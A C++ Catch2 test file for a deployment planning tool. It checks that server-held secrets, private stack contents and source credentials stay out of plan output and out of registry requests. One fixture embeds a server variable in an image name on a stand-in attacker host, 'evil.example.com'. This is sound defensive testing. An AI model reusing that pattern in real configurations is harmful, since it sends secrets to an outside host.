// What whoever may read a change gets to see of the servers.

#include "stranger_world.hpp"

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

using Catch::Contains;
using e2e::Change;
using e2e::compose;
using e2e::Result;
using nlohmann::json;

namespace {

const std::string main_stack =
    "  - {name: web, file: web.yml, env: {SIGNING: {env: SIGN}, COLOUR: crimson77}}\n";

const std::string private_content =
    "services:\n  veiled:\n    image: veiled-image:${VERSION:?veiled words}\n    ports: ['8099:80']\n";

/// A second stack that main does not own.
void add_private_stack(Change &it) {
    json all = json::parse(it.world.server().state());
    all["stacks"].push_back({{"Id", 77},
                             {"Name", "private"},
                             {"EndpointId", 1},
                             {"Status", 1},
                             {"file", private_content},
                             {"Env", {{{"name", "VERSION"}, {"value", "veiled-value"}}}}});
    for (json &environment : all["environments"])
        for (const char *what : {"containers", "services", "deployments", "objects"})
            environment.erase(what); // so that every stack runs
    it.world.server().set_state(all.dump());
}

/// What the checks of images asked the engine and its registries for.
std::string asked_of(const Change &it) {
    return it.sent_to_server();
}

} // namespace

TEST_CASE("no value of the server gets into the name of an image before it is merged", "[e2e][stranger]") {
    Change it;
    it.base(main_stack);
    // Left to the server, a variable has the value that main gave it by reference.
    const std::string left =
        GENERATE("ignore: [env]", "ignore: [env.SIGNING]", "ignore: [env.SIGNING], env: {SIGNING: innocent}");
    it.change("  - {name: web, file: web.yml, " + left + "}\n",
              {{"web.yml", "services:\n  app:\n    image: evil.example.com/x:${SIGNING}\n"}});
    for (const bool with_base : {true, false}) {
        const Result result =
            with_base ? it.plan({"--preflight"})
                      : it.run({"plan", "--git", it.repository.path(), "--ref", "change", "--preflight"});
        INFO(left << result.out << result.err);
        CHECK_THAT(asked_of(it), !Contains("signing-marker"));
        CHECK_THAT(result.out + result.err, !Contains("signing-marker"));
        CHECK_THAT(result.out, Contains("can't be checked: a part of it comes by reference"));
    }
}

TEST_CASE("no finding about what main does not own says what is in it", "[e2e][stranger]") {
    Change it;
    it.base(main_stack);
    add_private_stack(it);
    const std::string takes =
        GENERATE("file: other.yml, ignore: [file], env: {FOO: guess}",
                 "file: other.yml, ignore: [env], access: {public: true}", "file: ports.yml, ignore: [env]");
    it.change(main_stack + "  - {name: private, " + takes + "}\n",
              {{"other.yml", compose},
               {"ports.yml", "services:\n  a:\n    image: 'nginx:1'\n    ports: ['${VERSION}:80']\n"}});
    for (const char *base : {"main", ""}) {
        std::vector<std::string> arguments{"plan",        "--git", it.repository.path(), "--ref", "change",
                                           "--preflight", "-v"};
        if (*base != '\0')
            arguments.insert(arguments.end(), {"--base", base});
        const Result result = it.run(arguments);
        INFO(takes << result.out << result.err);
        CHECK_THAT(result.out, Contains("production/private") && !Contains("veiled"));
        CHECK(result.exit_code == 0); // what hangs on a value that was not used proves nothing
    }
}

TEST_CASE("why a stack that main does not own runs badly is not said", "[e2e][stranger]") {
    Change it;
    it.base(main_stack);
    add_private_stack(it);
    const auto harm = GENERATE("unhealthy", "remove");
    it.world.server().control("POST", "/containers/1/private/veiled", json{{"do", harm}}.dump());
    it.change(main_stack + "  - {name: private, file: other.yml, env: {A: x}}\n", {{"other.yml", compose}});
    for (const char *format : {"text", "json", "markdown", "html"}) {
        const Result result = it.plan({"--format", format});
        INFO(format << result.out << result.err);
        CHECK_THAT(result.out, Contains("private") && !Contains("veiled"));
    }
}

TEST_CASE("of a source that main does not own nothing is shown", "[e2e][stranger][sources]") {
    Change it(e2e::settings_of("2.43"));
    it.base(main_stack);
    json all = json::parse(it.world.server().state());
    all["sources"].push_back({{"id", 9},
                              {"name", "private"},
                              {"url", "https://veiled.example.com/repository"},
                              {"username", "veiled-user"},
                              {"password", "x"},
                              {"authentication", true}});
    it.world.server().set_state(all.dump());
    it.change(main_stack + "sources:\n  - {server: main, name: private, url: 'https://git.example.com/x'}\n");
    const Result result = it.plan({"-v"});
    INFO(result.out << result.err);
    CHECK_THAT(result.out, Contains("sources/private") && !Contains("veiled"));
}
